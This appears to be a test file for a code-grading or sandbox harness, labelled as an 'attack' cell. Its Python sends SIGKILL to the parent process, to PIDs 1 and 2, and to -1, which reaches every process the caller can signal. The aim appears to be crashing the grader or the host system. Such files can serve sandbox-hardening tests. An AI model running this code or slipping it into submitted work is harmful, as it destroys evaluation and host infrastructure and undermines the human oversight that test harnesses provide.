"""Kills the process that started it, the first one, and all that it can reach."""

like = "wrong_answers"

# %% attack
import os

for process in (os.getppid(), 1, 2, -1):
    try:
        os.kill(process, 9)
    except OSError:
        pass
